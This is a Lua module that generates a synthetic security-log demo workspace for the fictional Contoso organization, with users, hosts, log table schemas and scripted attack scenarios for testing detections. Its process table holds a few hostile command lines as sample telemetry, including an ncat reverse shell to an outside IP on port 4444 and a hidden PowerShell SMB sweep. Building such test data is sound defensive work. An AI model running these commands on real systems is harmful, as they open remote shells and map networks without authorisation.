-- ipe.demo: a realistic, deterministic demo workspace for the organization "Contoso".
--
--   local summary = demo.build(db, { events = 100000, seed = 1, now = <epoch seconds>,
--                                    progress = function(done, total) ... end })
--
-- db is an open, writable connection (ipe.sqlite) on a fresh workspace that
-- schema.migrate() has created. build() writes exactly `events` rows, all with
-- TimeGenerated in [now - 14 days, now], inside one savepoint (so it nests in a
-- transaction the caller holds, or is its own transaction), and returns
--   { rows = { <Table> = count, ... }, stories = demo.STORIES, story_rows = n,
--     background_rows = m, heartbeat_interval = seconds, deviceinfo_interval = seconds }
--
-- Determinism: only math.randomseed(seed) + math.random are used (LuaJIT's PRNG
-- is the same on every platform) and no clock is read, so the same seed, events
-- and now give identical rows. Story rows (demo.STORIES) are the same for any
-- `events` (demo.story_rows() = 10143; demo.minimum_events() = 10239 is the least
-- `events` accepted); the background takes the rest:
-- Heartbeat (~10%, one row per host every max(5 min, 14 d * hosts / budget)),
-- DeviceInfo (~1%, at most hourly per host) and random events spread over the 14
-- days with a working-hours profile (Contoso keeps UTC-8 office hours), firewall
-- and device network events dominating. The hour before `now` is weighted like a
-- busy working hour, so default windows show fresh events.
--
-- Organization facts (demo.ORG): domain contoso.com; 40 Windows workstations
-- wks-001..wks-040 (wks-001..020 = 10.0.2.11..30, wks-021..040 = 10.0.4.80..99),
-- 8 servers in 10.0.1.0/24, 60 users first.last@contoso.com (user i owns wks-i),
-- firewall fw-edge01 (Palo Alto Networks PAN-OS). All on-prem agents reach Azure
-- through the NAT egress 131.107.0.89, so Heartbeat.ComputerIP and
-- DeviceInfo.PublicIP hold that public address (as Sentinel records the address
-- the agent connects from) and the host's own address is in ComputerPrivateIPs.
-- srv-web01 is published as 131.107.0.90, srv-lnx01 (ssh) as 131.107.0.91.
-- Device names in MDE/Windows tables are FQDNs ("wks-007.contoso.com"); the
-- firewall's SourceHostName and Syslog Computer use the short name.
-- Watchlist _DTItemStatus values are "Create" / "Delete".
--
-- Errors: bad options raise plain strings, error(msg, 0); SQLite errors from
-- the binding (and errors raised by the progress callback) propagate after
-- the savepoint is rolled back, so a failed build leaves the workspace as it was.
local schema = require "ipe.schema"
local bit = require "bit"

local M = {}

local floor, random, fmt, concat = math.floor, math.random, string.format, table.concat

local SEC, MIN, HOUR, DAY = 1000, 60000, 3600000, 86400000
local SPAN = 14 * DAY

---------------------------------------------------------------------------
-- Time: epoch milliseconds → "YYYY-MM-DDTHH:MM:SS.sssZ"
---------------------------------------------------------------------------
local civil_from_days = require("ipe.timeutil").civil_from_days
local day_prefix = {}

local function date_prefix(day)
  local p = day_prefix[day]
  if p then return p end
  local y, m, d = civil_from_days(day)
  p = fmt("%04d-%02d-%02dT", y, m, d)
  day_prefix[day] = p
  return p
end

local function iso(ms)
  ms = floor(ms)
  local day = floor(ms / DAY)
  local r = ms - day * DAY
  local h = floor(r / HOUR); r = r - h * HOUR
  local mi = floor(r / MIN); r = r - mi * MIN
  local s = floor(r / SEC)
  return fmt("%s%02d:%02d:%02d.%03dZ", date_prefix(day), h, mi, s, r - s * SEC)
end
M.iso = iso

---------------------------------------------------------------------------
-- Identifiers: stable (hash of a name) and random (math.random)
---------------------------------------------------------------------------
-- fnv(s): a 32-bit hash; stable_hex(name, n): n hex digits that depend on every byte of name
local fnv, stable_hex = require("ipe.stix").fnv, require("ipe.stix").hex

local function stable_guid(name)
  local h = stable_hex(name, 32)
  return h:sub(1, 8) .. "-" .. h:sub(9, 12) .. "-4" .. h:sub(14, 16) .. "-a" .. h:sub(18, 20) .. "-" .. h:sub(21, 32)
end

local function guid()
  return fmt("%08x-%04x-4%03x-%04x-%04x%08x", random(0, 4294967295), random(0, 65535), random(0, 4095),
             random(32768, 49151), random(0, 65535), random(0, 4294967295))
end

local function rand_hex(n)
  local parts = {}
  for i = 1, floor((n + 7) / 8) do parts[i] = fmt("%08x", random(0, 4294967295)) end
  return concat(parts):sub(1, n)
end

local function eph() return random(49152, 65535) end

---------------------------------------------------------------------------
-- JSON with a fixed key order
---------------------------------------------------------------------------
local ESC = { ['"'] = '\\"', ['\\'] = '\\\\', ['\n'] = '\\n', ['\r'] = '\\r', ['\t'] = '\\t' }
local function jstr(s)
  return '"' .. (s:gsub('[%c"\\]', function(c) return ESC[c] or fmt("\\u%04x", c:byte()) end)) .. '"'
end

local NULL = {}                       -- JSON null marker inside jobj/jarr
local function raw(s) return { raw = s } end

local function jval(v)
  local t = type(v)
  if t == "string" then return jstr(v)
  elseif t == "number" then
    if v % 1 == 0 and v > -1e15 and v < 1e15 then return fmt("%d", v) end
    return fmt("%.10g", v)
  elseif t == "boolean" then return v and "true" or "false"
  elseif v == nil or v == NULL then return "null"
  else return v.raw end
end

local function jobj(...)
  local parts, n = {}, select("#", ...)
  for i = 1, n, 2 do
    local k, v = select(i, ...)
    parts[#parts + 1] = jstr(k) .. ":" .. jval(v)
  end
  return "{" .. concat(parts, ",") .. "}"
end

local function jarr(list)
  local parts = {}
  for i = 1, #list do parts[i] = jval(list[i]) end
  return "[" .. concat(parts, ",") .. "]"
end

---------------------------------------------------------------------------
-- The organization
---------------------------------------------------------------------------
local ORG = {
  name = "Contoso", domain = "contoso.com", netbios = "CONTOSO",
  tenant = "8a4f1c2e-5b7d-4e39-9c61-0f2d3b4a5e6c",
  subscription = "3c9e7a51-2d4b-4f68-8a1c-6e5f4d3b2a19",
  resource_group = "contoso-onprem",
  egress_ip = "131.107.0.89", web_public_ip = "131.107.0.90", ssh_public_ip = "131.107.0.91",
  firewall = "fw-edge01",
}
M.ORG = ORG
local TENANT = ORG.tenant

local NAMES = {
  "adele.vance", "bob.kelly", "megan.bowen", "lee.gu", "alice.nguyen", "diego.siciliani",
  "isaiah.langer", "johanna.lorenz", "lidia.holloway", "lynne.robbins", "miriam.graham", "nestor.wilke",
  "patti.fernandez", "pradeep.gupta", "grady.archie", "henrietta.mueller", "irvin.sayers", "joni.sherman",
  "christie.cline", "alex.wilber", "allan.deyoung", "debra.berger", "emily.braun", "enrico.cattaneo",
  "gerhart.moller", "raul.razo", "ben.walters", "cameron.white", "dana.birkby", "erik.nason",
  "ivan.petrov", "jamal.hartnett", "kat.larson", "laura.norman", "marcus.thorne", "nadia.khan",
  "oscar.ward", "priya.raman", "quinn.foster", "rachel.adams", "samuel.ortiz", "tanya.brooks",
  "umar.farouk", "vera.lindqvist", "will.turner", "xena.morales", "yusuf.demir", "zoe.chen",
  "aaron.price", "bianca.rossi", "carlos.mendez", "diana.hughes", "elias.berg", "fatima.haddad",
  "george.kim", "hannah.wright", "igor.novak", "julia.santos", "kevin.osei", "lena.fischer",
}

local function title(w) return w:sub(1, 1):upper() .. w:sub(2) end

local USERS, USER_BY_SAM = {}, {}
for i, sam in ipairs(NAMES) do
  local first, last = sam:match("^(%a+)%.(%a+)$")
  local u = {
    index = i, sam = sam, upn = sam .. "@contoso.com", display = title(first) .. " " .. title(last),
    account = "CONTOSO\\" .. sam, id = stable_guid("user:" .. sam),
    sid = "S-1-5-21-2946112538-3520493816-1820375823-" .. (1100 + i),
    puid = stable_hex("puid:" .. sam, 16):upper(),
  }
  USERS[i] = u
  USER_BY_SAM[sam] = u
end
M.USERS = USERS
local ADMINS = { USER_BY_SAM["bob.kelly"], USER_BY_SAM["alice.nguyen"], USER_BY_SAM["nestor.wilke"],
                 USER_BY_SAM["alex.wilber"] }

local OS = {
  win11 = { type = "Windows", name = "Windows 11 Enterprise", major = "10", minor = "0", platform = "Windows11",
            build = 22631, device_type = "Workstation", agent = "10.20.18069.0" },
  win10 = { type = "Windows", name = "Windows 10 Enterprise", major = "10", minor = "0", platform = "Windows10",
            build = 19045, device_type = "Workstation", agent = "10.20.18069.0" },
  ws2022 = { type = "Windows", name = "Windows Server 2022 Datacenter", major = "10", minor = "0",
             platform = "WindowsServer2022", build = 20348, device_type = "Server", agent = "10.20.18069.0" },
  ws2019 = { type = "Windows", name = "Windows Server 2019 Datacenter", major = "10", minor = "0",
             platform = "WindowsServer2019", build = 17763, device_type = "Server", agent = "10.20.18069.0" },
  ubuntu = { type = "Linux", name = "Ubuntu", major = "22", minor = "04", platform = "Linux",
             distribution = "Ubuntu", device_type = "Server", agent = "1.19.0-3" },
}

local HOSTS, HOST_BY_NAME, WORKSTATIONS = {}, {}, {}

local function add_host(name, ip, kind, os, owner, role)
  local h = {
    index = #HOSTS + 1, name = name, fqdn = name .. ".contoso.com", ip = ip, kind = kind, os = os,
    user = owner, role = role,
    device_id = stable_hex("device:" .. name, 40), aad_device_id = stable_guid("aad:" .. name),
    vmuuid = stable_guid("vm:" .. name):upper(),
    resource_id = "/subscriptions/" .. ORG.subscription .. "/resourcegroups/" .. ORG.resource_group ..
                  "/providers/microsoft.hybridcompute/machines/" .. name,
    group = kind == "workstation" and "Contoso Workstations" or "Contoso Servers",
    zone = kind == "workstation" and "trust" or "servers",
  }
  h.private_ips = jarr({ ip })
  HOSTS[#HOSTS + 1] = h
  HOST_BY_NAME[name] = h
  if kind == "workstation" then WORKSTATIONS[#WORKSTATIONS + 1] = h end
  return h
end

for i = 1, 40 do
  local ip = i <= 20 and fmt("10.0.2.%d", 10 + i) or fmt("10.0.4.%d", 59 + i)
  add_host(fmt("wks-%03d", i), ip, "workstation", (i % 3 == 0) and OS.win10 or OS.win11, USERS[i])
end
add_host("srv-dc01", "10.0.1.10", "server", OS.ws2022, nil, "Domain controller")
add_host("srv-dc02", "10.0.1.11", "server", OS.ws2022, nil, "Domain controller")
add_host("srv-db01", "10.0.1.20", "server", OS.ws2019, nil, "SQL Server")
add_host("srv-web01", "10.0.1.30", "server", OS.ws2022, nil, "IIS web server")
add_host("srv-file01", "10.0.1.40", "server", OS.ws2019, nil, "File server")
add_host("srv-app01", "10.0.1.50", "server", OS.ws2022, nil, "Application server")
add_host("srv-lnx01", "10.0.1.60", "server", OS.ubuntu, nil, "Linux jump host (sshd)")
add_host("srv-lnx02", "10.0.1.61", "server", OS.ubuntu, nil, "Linux build server (sshd)")
M.HOSTS = HOSTS
local H = HOST_BY_NAME
local WIN_SERVERS = { H["srv-dc01"], H["srv-dc02"], H["srv-db01"], H["srv-web01"], H["srv-file01"], H["srv-app01"] }
local LINUX = { H["srv-lnx01"], H["srv-lnx02"] }
local LINUX_ADMINS = { { name = "alice", uid = 1001, from = H["wks-005"] }, { name = "bob", uid = 1002, from = H["wks-002"] },
                       { name = "deploy", uid = 1003, from = H["srv-app01"] } }

---------------------------------------------------------------------------
-- Story IPs and the facts tests rely on
---------------------------------------------------------------------------
local C2_HOSTS = { "wks-007", "wks-013", "wks-021" }
local SPRAY_TARGETS = {}
for i = 11, 40 do SPRAY_TARGETS[#SPRAY_TARGETS + 1] = USERS[i].upn end
local SPRAY_WINNERS = { "grady.archie@contoso.com", "raul.razo@contoso.com" }

M.STORIES = {
  c2 = {
    ip = "89.160.20.128", hosts = C2_HOSTS, devices = { "wks-007.contoso.com", "wks-013.contoso.com", "wks-021.contoso.com" },
    host_ips = { "10.0.2.17", "10.0.2.23", "10.0.4.80" }, port = 443, protocol = "Tcp", process = "rundll32.exe",
    interval = 300, jitter = 3, days = 5, beacons_per_host = 1440,
    alert = "Communication with C2 server", alert_severity = "High", alert_status = "InProgress", alert_versions = 2,
    incident_number = 87, incident_status = "Active", incident_severity = "High", incident_owner = "Nestor Wilke",
    ti_live_providers = { "Microsoft Defender Threat Intelligence", "VirusTotal" }, ti_expired_provider = "Recorded Future",
    ti_indicators = 3, ti_rows = 5, threat_type = "C2", anomalies = 3, bookmarks = 1,
    country = "SE", city = "Linköping",
  },
  spray = {
    ip = "216.160.83.56", users = 30, targets = SPRAY_TARGETS, failures = 60, failures_50126 = 57, failures_50053 = 3,
    successes = 2, winners = SPRAY_WINNERS, result_type = "50126", days_ago = 2, hours = 3,
    target_host = "srv-web01", target_device = "srv-web01.contoso.com", windows_failures = 40,
    status = "0xc000006d", substatus = "0xc000006a",
    alert = "Password spray attack", alert_severity = "Medium", incident_number = 93, incident_status = "New",
    incident_severity = "Medium", anomalies = 2, watchlist = "suspicious-ips", ti_provider = "AbuseIPDB",
    ti_rows = 2, country = "US", city = "Milton",
  },
  cdn = { ip = "151.101.1.140", port = 443, url = "global.ssl.fastly.net", hosts = 40, per_host = 10 },
  internal = {
    ip = "10.0.1.20", host = "srv-db01", device = "srv-db01.contoso.com", port = 1433, process = "sqlservr.exe",
    story_inbound = 24, watchlist = "critical-servers", egress_ip = "131.107.0.89",
  },
  rare_port = {
    ip = "45.33.32.156", port = 4444, host = "wks-031", device = "wks-031.contoso.com", host_ip = "10.0.4.90",
    connections = 5, process = "ncat.exe", ssh_host = "srv-lnx01", ssh_failures = 12,
  },
  sweep = { source = "10.0.4.99", host = "wks-040", device = "wks-040.contoso.com", cidr = "10.0.1.0/24",
            port = 445, targets = 240, allowed = 6, minutes = 10, days_ago = 1 },
  ipv6 = { ip = "2001:218:85a3::8a2e:370:7334", user = "megan.bowen@contoso.com", signins = 8, country = "JP" },
  quiet = { ip = "192.0.2.200" },
}
local ST = M.STORIES

local EXCLUDED = {}
for _, ip in ipairs({ ST.c2.ip, ST.spray.ip, ST.cdn.ip, ST.rare_port.ip, ST.quiet.ip, ORG.egress_ip,
                      ORG.web_public_ip, ORG.ssh_public_ip }) do EXCLUDED[ip] = true end

-- A random address that is public: never private, shared, loopback,
-- link-local, documentation, benchmarking, multicast or reserved, never a
-- story address and never Contoso's own range 131.107.0.0/16.
local function is_special(a, b, c)
  return a == 0 or a == 10 or a == 127 or a >= 224
      or (a == 100 and b >= 64 and b <= 127) or (a == 169 and b == 254)
      or (a == 172 and b >= 16 and b <= 31) or (a == 192 and b == 168)
      or (a == 192 and b == 0 and (c == 0 or c == 2)) or (a == 192 and b == 88 and c == 99)
      or (a == 198 and (b == 18 or b == 19)) or (a == 198 and b == 51 and c == 100)
      or (a == 203 and b == 0 and c == 113) or (a == 131 and b == 107)
end
M.is_special = is_special

local function rand_public()
  while true do
    local a, b, c, d = random(1, 223), random(0, 255), random(0, 255), random(1, 254)
    if not is_special(a, b, c) then
      local ip = a .. "." .. b .. "." .. c .. "." .. d
      if not EXCLUDED[ip] then return ip end
    end
  end
end
M.rand_public = rand_public

---------------------------------------------------------------------------
-- Locations, applications, processes
---------------------------------------------------------------------------
local function location(city, state, cc, lat, lon, asn)
  return { city = city, state = state, cc = cc, asn = asn,
           json = jobj("city", city, "state", state, "countryOrRegion", cc,
                       "geoCoordinates", raw(jobj("latitude", lat, "longitude", lon))) }
end
local LOC_OFFICE = location("Redmond", "Washington", "US", 47.6801, -122.1206, "3598")
local HOME_LOCS = {
  location("Seattle", "Washington", "US", 47.6062, -122.3321, "7922"),
  location("Bellevue", "Washington", "US", 47.6101, -122.2015, "20115"),
  location("Kirkland", "Washington", "US", 47.6815, -122.2087, "7018"),
  location("Tacoma", "Washington", "US", 47.2529, -122.4443, "209"),
  location("Portland", "Oregon", "US", 45.5152, -122.6784, "22773"),
}
local LOC_SPRAY = location("Milton", "Washington", "US", 47.2513, -122.3149, "209")
local LOC_IPV6 = location("Tokyo", "Tokyo", "JP", 35.68536, 139.75309, "2914")
local C2_THREAT = { ip = ST.c2.ip, country = "Sweden", lat = 58.4167, lon = 15.6167, severity = 5,
                    confidence = "95", description = "Cobalt Strike command and control server", type = "C2" }

local APPS = {
  { "Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online" },
  { "Microsoft Teams", "1fec8e78-bce4-4aaf-ab1b-5451cc387264", "Microsoft Teams Services" },
  { "Office 365 SharePoint Online", "00000003-0000-0ff1-ce00-000000000000", "Office 365 SharePoint Online" },
  { "Microsoft Office", "d3590ed6-52b3-4102-aeff-aad2292ab01c", "Microsoft Graph" },
  { "OneDrive SyncEngine", "ab9b8c07-8f02-4f72-87fa-80105867a763", "OneDrive" },
  { "Azure Portal", "c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "Windows Azure Service Management API" },
}
local APP_POWERSHELL = { "Azure Active Directory PowerShell", "1b730954-1685-4b74-9bfd-dac224a7b894", "Windows Azure Active Directory" }
local UA_EDGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0"
local UA_CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
local UA_IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
local UAS = { UA_EDGE, UA_CHROME, UA_EDGE, UA_IPHONE }

local RESULTS = {
  ["0"] = { code = "0", desc = "", sig = "SUCCESS", ca = "success", status = jobj("errorCode", 0) },
  ["50126"] = { code = "50126", desc = "Error validating credentials due to invalid username or password.", sig = "FAILURE",
                ca = "notApplied", status = jobj("errorCode", 50126, "failureReason",
                "Error validating credentials due to invalid username or password.") },
  ["50053"] = { code = "50053", desc = "Account is locked because user tried to sign in too many times with an incorrect user ID or password.",
                sig = "FAILURE", ca = "notApplied", status = jobj("errorCode", 50053, "failureReason",
                "Account is locked because user tried to sign in too many times with an incorrect user ID or password.") },
  ["50074"] = { code = "50074", desc = "Strong Authentication is required.", sig = "FAILURE", ca = "notApplied",
                status = jobj("errorCode", 50074, "failureReason", "Strong Authentication is required.",
                              "additionalDetails", "MFA required in Azure AD") },
}

local function proc(file, folder, cmd, account, domain, sid)
  return { file = file, folder = folder, cmd = cmd or file, account = account, domain = domain, sid = sid,
           sha1 = stable_hex("sha1:" .. file, 40), sha256 = stable_hex("sha256:" .. file, 64),
           md5 = stable_hex("md5:" .. file, 32), pid = 1000 + fnv(file) % 9000 }
end
local P = {
  chrome = proc("chrome.exe", "c:\\program files\\google\\chrome\\application\\chrome.exe",
                "\"chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService"),
  msedge = proc("msedge.exe", "c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe",
                "\"msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService"),
  teams = proc("ms-teams.exe", "c:\\program files\\windowsapps\\msteams_24102.2223.2870.9480_x64__8wekyb3d8bbwe\\ms-teams.exe"),
  outlook = proc("outlook.exe", "c:\\program files\\microsoft office\\root\\office16\\outlook.exe"),
  onedrive = proc("onedrive.exe", "c:\\program files\\microsoft onedrive\\onedrive.exe", "\"onedrive.exe\" /background"),
  svchost = proc("svchost.exe", "c:\\windows\\system32\\svchost.exe", "svchost.exe -k NetworkService -p",
                 "network service", "nt authority", "S-1-5-20"),
  msmpeng = proc("msmpeng.exe", "c:\\programdata\\microsoft\\windows defender\\platform\\4.18.24040.4-0\\msmpeng.exe",
                 "\"MsMpEng.exe\"", "system", "nt authority", "S-1-5-18"),
  mssense = proc("mssense.exe", "c:\\program files\\windows defender advanced threat protection\\mssense.exe",
                 "\"MsSense.exe\"", "system", "nt authority", "S-1-5-18"),
  system = proc("ntoskrnl.exe", "c:\\windows\\system32\\ntoskrnl.exe", "System", "system", "nt authority", "S-1-5-18"),
  lsass = proc("lsass.exe", "c:\\windows\\system32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe",
               "system", "nt authority", "S-1-5-18"),
  sqlservr = proc("sqlservr.exe", "c:\\program files\\microsoft sql server\\mssql15.mssqlserver\\mssql\\binn\\sqlservr.exe",
                  "\"sqlservr.exe\" -sMSSQLSERVER", "mssqlserver", "nt service",
                  "S-1-5-80-3880718306-3832830129-1677859214-2598158968-1052248003"),
  w3wp = proc("w3wp.exe", "c:\\windows\\system32\\inetsrv\\w3wp.exe", "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\"",
              "defaultapppool", "iis apppool", "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415"),
  ssms = proc("ssms.exe", "c:\\program files (x86)\\microsoft sql server management studio 19\\common7\\ide\\ssms.exe"),
  excel = proc("excel.exe", "c:\\program files\\microsoft office\\root\\office16\\excel.exe"),
  powershell = proc("powershell.exe", "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
                    "powershell.exe -nop -w hidden -c \"1..254 | % { Test-NetConnection 10.0.1.$_ -Port 445 }\""),
  c2 = proc("rundll32.exe", "c:\\windows\\system32\\rundll32.exe",
            "rundll32.exe C:\\Users\\Public\\Libraries\\wupdsvc.dll,StartW"),
  ncat = proc("ncat.exe", "c:\\users\\public\\downloads\\ncat.exe", "ncat.exe 45.33.32.156 4444 -e cmd.exe"),
}
local OUT_PROCS = { P.chrome, P.chrome, P.chrome, P.chrome, P.chrome, P.chrome, P.chrome, P.msedge, P.msedge, P.msedge,
                    P.teams, P.teams, P.teams, P.outlook, P.outlook, P.onedrive, P.onedrive, P.svchost, P.svchost,
                    P.msmpeng, P.mssense }

-- Internal services: server, port, firewall application, client process, server process.
local SERVICES = {
  { H["srv-file01"], 445, "ms-ds-smb", P.system, P.system, 40 },
  { H["srv-db01"], 1433, "mssql-db", P.ssms, P.sqlservr, 25 },
  { H["srv-dc01"], 389, "ldap", P.lsass, P.lsass, 10 },
  { H["srv-dc02"], 389, "ldap", P.lsass, P.lsass, 5 },
  { H["srv-dc01"], 88, "kerberos", P.lsass, P.lsass, 10 },
  { H["srv-app01"], 443, "ssl", P.msedge, P.w3wp, 5 },
  { H["srv-web01"], 443, "ssl", P.chrome, P.w3wp, 5 },
}
local SERVICE_PICK = {}
for _, s in ipairs(SERVICES) do for _ = 1, s[6] do SERVICE_PICK[#SERVICE_PICK + 1] = s end end

---------------------------------------------------------------------------
-- Row writers: one function per table, fixed column order
---------------------------------------------------------------------------
-- A column is a name (a bound parameter, in argument order) or lit(name, value):
-- a constant written into the INSERT text once (the busiest tables save the
-- per-row binding of values that never change).
local function lit(name, value) return { name = name, value = value } end

local COLS = {
  CommonSecurityLog = { "TimeGenerated", "DeviceEventClassID", "DeviceAction", "SimplifiedDeviceAction", "SourceIP",
    "DestinationIP", "SourceTranslatedAddress", "DestinationTranslatedAddress", "SourcePort", "DestinationPort",
    "SourceTranslatedPort", "DestinationTranslatedPort", "Protocol", "ApplicationProtocol", "CommunicationDirection",
    "SentBytes", "ReceivedBytes", "SourceHostName", "DestinationHostName", "SourceUserName", "DeviceInboundInterface",
    "DeviceOutboundInterface", "DeviceCustomString1", "DeviceCustomString4", "DeviceCustomString5",
    "MaliciousIP", "MaliciousIPCountry", "MaliciousIPLatitude", "MaliciousIPLongitude", "ThreatSeverity",
    "ThreatConfidence", "ThreatDescription", "IndicatorThreatType",
    lit("DeviceVendor", "Palo Alto Networks"), lit("DeviceProduct", "PAN-OS"), lit("DeviceVersion", "10.2.7"),
    lit("Activity", "TRAFFIC"), lit("LogSeverity", "1"), lit("EventCount", 1), lit("Computer", ORG.firewall),
    lit("DeviceName", ORG.firewall), lit("DeviceExternalID", "013201028945"), lit("DeviceCustomString1Label", "Rule"),
    lit("DeviceCustomString4Label", "Source Zone"), lit("DeviceCustomString5Label", "Destination Zone"),
    lit("TenantId", TENANT), lit("SourceSystem", "OpsManager") },
  DeviceNetworkEvents = { "TimeGenerated", "Timestamp", "DeviceId", "DeviceName", "MachineGroup", "ActionType",
    "RemoteIP", "LocalIP", "RemoteIPType", "RemotePort", "LocalPort", "RemoteUrl",
    "InitiatingProcessFileName", "InitiatingProcessFolderPath", "InitiatingProcessCommandLine",
    "InitiatingProcessSHA1", "InitiatingProcessSHA256", "InitiatingProcessMD5", "InitiatingProcessId",
    "InitiatingProcessAccountName", "InitiatingProcessAccountDomain", "InitiatingProcessAccountUpn",
    "InitiatingProcessAccountSid", "ReportId",
    lit("LocalIPType", "Private"), lit("Protocol", "Tcp"), lit("TenantId", TENANT) },
  Heartbeat = { "TimeGenerated", "Computer", "ComputerPrivateIPs", "OSType", "OSName", "OSMajorVersion",
    "OSMinorVersion", "Version", "ResourceId", "VMUUID", "SourceSystem", "_ResourceId",
    lit("ComputerIP", ORG.egress_ip), lit("RemoteIPCountry", "United States"), lit("RemoteIPLatitude", 47.6801),
    lit("RemoteIPLongitude", -122.1206), lit("Category", "Direct Agent"), lit("SCAgentChannel", "Direct"),
    lit("ComputerEnvironment", "Non-Azure"), lit("SubscriptionId", ORG.subscription),
    lit("ResourceGroup", ORG.resource_group), lit("IsGatewayInstalled", 0), lit("TenantId", TENANT) },
  DeviceInfo = { "TimeGenerated", "Timestamp", "DeviceId", "DeviceName", "AadDeviceId", "MachineGroup", "PublicIP",
    "OSPlatform", "OSVersion", "OSDistribution", "OSArchitecture", "DeviceType", "DeviceCategory", "OSBuild",
    "OnboardingStatus", "JoinType", "IsAzureADJoined", "LoggedOnUsers", "ReportId", "TenantId", "SourceSystem" },
  SecurityEvent = { "TimeGenerated", "EventID", "Activity", "EventSourceName", "Channel", "Task", "Level", "Computer",
    "WorkstationName", "IpAddress", "IpPort", "Account", "AccountType", "TargetAccount", "TargetUserName",
    "TargetDomainName", "TargetUserSid", "TargetLogonId", "SubjectUserSid", "SubjectUserName", "SubjectDomainName",
    "SubjectLogonId", "LogonType", "LogonTypeName", "LogonProcessName", "AuthenticationPackageName", "Status",
    "SubStatus", "FailureReason", "ProcessName", "ProcessId", "TenantId", "SourceSystem", "_ResourceId" },
  SigninLogs = { "TimeGenerated", "CreatedDateTime", "IPAddress", "AutonomousSystemNumber", "Location",
    "LocationDetails", "UserPrincipalName", "UserDisplayName", "UserId", "Identity", "AlternateSignInName",
    "UserType", "AppDisplayName", "AppId", "ResourceDisplayName", "ClientAppUsed", "UserAgent", "ResultType",
    "ResultDescription", "ResultSignature", "Status", "ConditionalAccessStatus", "DeviceDetail",
    "RiskLevelAggregated", "RiskLevelDuringSignIn", "RiskState", "RiskDetail", "IsInteractive", "IsRisky",
    "CorrelationId", "Id", "UniqueTokenIdentifier", "TenantId", "SourceSystem" },
  AuditLogs = { "TimeGenerated", "ActivityDateTime", "OperationName", "ActivityDisplayName", "Category",
    "AADOperationType", "LoggedByService", "Result", "ResultReason", "InitiatedBy", "TargetResources",
    "AdditionalDetails", "Identity", "CorrelationId", "Id", "TenantId", "SourceSystem" },
  OfficeActivity = { "TimeGenerated", "ClientIP", "UserId", "UserKey", "UserType", "Operation", "RecordType",
    "OfficeWorkload", "ResultStatus", "UserAgent", "ClientInfoString", "OfficeObjectId", "Site_Url",
    "SourceFileName", "MailboxOwnerUPN", "TenantId", "SourceSystem" },
  AzureActivity = { "TimeGenerated", "EventSubmissionTimestamp", "CallerIpAddress", "Caller", "OperationName",
    "OperationNameValue", "CategoryValue", "ActivityStatus", "ActivityStatusValue", "Level", "ResourceId",
    "ResourceGroup", "ResourceProviderValue", "SubscriptionId", "HTTPRequest", "Properties_d", "CorrelationId",
    "OperationId", "EventDataId", "TenantId", "SourceSystem", "_ResourceId" },
  Syslog = { "TimeGenerated", "EventTime", "Computer", "HostName", "HostIP", "Facility", "SeverityLevel",
    "ProcessName", "ProcessID", "SyslogMessage", "TenantId", "SourceSystem", "_ResourceId" },
  BehaviorAnalytics = { "TimeGenerated", "TimeProcessed", "SourceIPAddress", "SourceIPLocation", "SourceDevice",
    "UserName", "UserPrincipalName", "ActivityType", "ActionType", "EventSource", "InvestigationPriority",
    "ActivityInsights", "UsersInsights", "DevicesInsights", "SourceRecordId", "TenantId", "SourceSystem" },
  Anomalies = { "TimeGenerated", "StartTime", "EndTime", "Id", "RuleId", "RuleName", "AnomalyTemplateId",
    "AnomalyTemplateName", "AnomalyTemplateVersion", "RuleStatus", "SourceIpAddress", "DestinationIpAddress",
    "SourceLocation", "SourceDevice", "DestinationDevice", "UserName", "UserPrincipalName", "Score", "Description",
    "Tactics", "Techniques", "VendorName", "Entities", "AnomalyReasons", "ExtendedProperties", "TenantId",
    "SourceSystem" },
  SecurityAlert = { "TimeGenerated", "StartTime", "EndTime", "ProcessingEndTime", "SystemAlertId", "VendorOriginalId",
    "AlertName", "DisplayName", "Description", "AlertType", "AlertSeverity", "Status", "ConfidenceLevel",
    "ProductName", "ProductComponentName", "ProviderName", "VendorName", "CompromisedEntity", "Entities",
    "ExtendedProperties", "Tactics", "Techniques", "IsIncident", "RemediationSteps", "TenantId", "SourceSystem" },
  SecurityIncident = { "TimeGenerated", "CreatedTime", "FirstActivityTime", "LastActivityTime", "FirstModifiedTime",
    "LastModifiedTime", "ClosedTime", "IncidentNumber", "IncidentName", "ProviderIncidentId", "ProviderName",
    "IncidentUrl", "Title", "Description", "Severity", "Status", "Classification", "ClassificationReason",
    "ClassificationComment", "Owner", "AlertIds", "BookmarkIds", "RelatedAnalyticRuleIds", "Labels", "Comments",
    "Tasks", "AdditionalData", "ModifiedBy", "TenantId", "SourceSystem" },
  ThreatIntelligenceIndicator = { "TimeGenerated", "ExpirationDateTime", "IndicatorId", "ExternalIndicatorId",
    "NetworkIP", "Active", "PassiveOnly", "ThreatSeverity", "ConfidenceScore", "ThreatType", "Description", "Tags",
    "Action", "TrafficLightProtocolLevel", "IndicatorProvider", "MalwareNames", "KillChainC2", "TenantId",
    "SourceSystem" },
  Watchlist = { "TimeGenerated", "_DTTimestamp", "CreatedTimeUTC", "LastUpdatedTimeUTC", "WatchlistId",
    "WatchlistName", "WatchlistAlias", "_DTItemId", "WatchlistItemId", "_DTItemType", "_DTItemStatus", "SearchKey",
    "WatchlistItem", "Provider", "Source", "Notes", "DefaultDuration", "CreatedBy", "UpdatedBy", "TenantId" },
  HuntingBookmark = { "TimeGenerated", "CreatedTime", "LastUpdatedTime", "EventTime", "QueryStartTime",
    "QueryEndTime", "BookmarkId", "BookmarkName", "QueryResultRow", "Entities", "QueryText", "Notes", "Tags",
    "CreatedBy", "UpdatedBy", "SoftDeleted", "TenantId" },
}
M.COLUMNS = COLS

